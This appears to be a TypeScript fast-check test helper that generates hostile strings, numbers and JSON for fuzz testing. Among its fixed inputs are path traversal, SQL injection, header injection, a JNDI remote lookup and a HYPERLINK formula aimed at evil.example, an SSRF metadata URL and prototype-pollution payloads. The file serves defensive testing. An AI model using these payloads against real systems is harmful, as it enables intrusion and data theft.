import fc from 'fast-check'

const RTL = '\u202e'
const TEXTS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udc00y',
  `报告${RTL}fdp.exe`,
  '\u200b\u200d\ufeff',
  '\u{e0041}\u{e0042}',
  '../../../../etc/passwd',
  '..\\..\\windows\\system.ini',
  '/etc/passwd',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data',
  "' or 1=1 --",
  '"; drop table ledger.item; --',
  '%00%0d%0aSet-Cookie:%20a=b',
  'a\r\nSet-Cookie: a=b',
  '=HYPERLINK("http://evil.example","x")',
  '<script>alert(1)</script>',
  '$\u007bjndi:ldap://evil.example/a}',
  '{{constructor.constructor("return process")()}}',
  '__proto__',
  'constructor',
  'toString',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '9999999999999999999999999',
  '0x10',
  '2024-02-30',
  '0000-00-00',
  '9999-12-31',
  '-000001-01-01',
  '2024-13-01T25:61:61Z',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '市'.repeat(5000),
  '(((((((((((((((((((((((((',
  'a'.repeat(70_000),
  '\u0301'.repeat(400),
  '\ufdfa'.repeat(300),
]

/** Texts that broke other programs: each a known trick of its own. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...TEXTS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc.string({ unit: fc.constantFrom(...'市区委局第一二三1.0%，。、：（）“”'), maxLength: 80 }),
  },
)

const NUMBERS = [
  0,
  -0,
  -1,
  1,
  0.1,
  1e-7,
  2 ** 31 - 1,
  2 ** 31,
  2 ** 53,
  -(2 ** 53),
  1e21,
  1e308,
  -1e308,
  5e-324,
  65_536,
  1e15,
]

/** A value of another kind than whoever asked for one expects. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileText },
  { weight: 3, arbitrary: fc.constantFrom(...NUMBERS) },
  { weight: 2, arbitrary: fc.constantFrom<unknown[]>(null, true, false, [], {}, [[]], [null], [[[[]]]]) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.nat(3000).map((length) => Array.from({ length }, (_, at) => at)) },
  { weight: 1, arbitrary: fc.nat(400).map(nested) },
)

function nested(depth: number): unknown {
  let value: unknown = 1
  for (let at = 0; at < depth; at++) value = at % 2 ? [value] : { a: value }
  return value
}

/** What replaces the text of a JSON body: no JSON at all, JSON that no serializer writes, or far too deep. */
export const hostileJson: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    'null',
    'true',
    '0',
    '"text"',
    '[]',
    '{}',
    '{',
    '{"a":',
    "{'a':1}",
    '{"a":1,}',
    '{"a":1,"a":2}',
    '{"__proto__":{"isAdmin":true}}',
    '{"constructor":{"prototype":{"isAdmin":true}}}',
    '{"a":1e400,"b":-1e400}',
    '\ufeff{}',
    '{"a":"\\ud800"}',
    '{"a":"\\u0000"}',
    '{"\\u0000":1}',
    'NaN',
    '{} {}',
    '// a',
  ),
  fc.integer({ min: 1, max: 60_000 }).map((depth) => '['.repeat(depth) + ']'.repeat(depth)),
  fc.integer({ min: 1, max: 60_000 }).map((depth) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
  fc.string({ unit: 'binary', maxLength: 60 }),
)
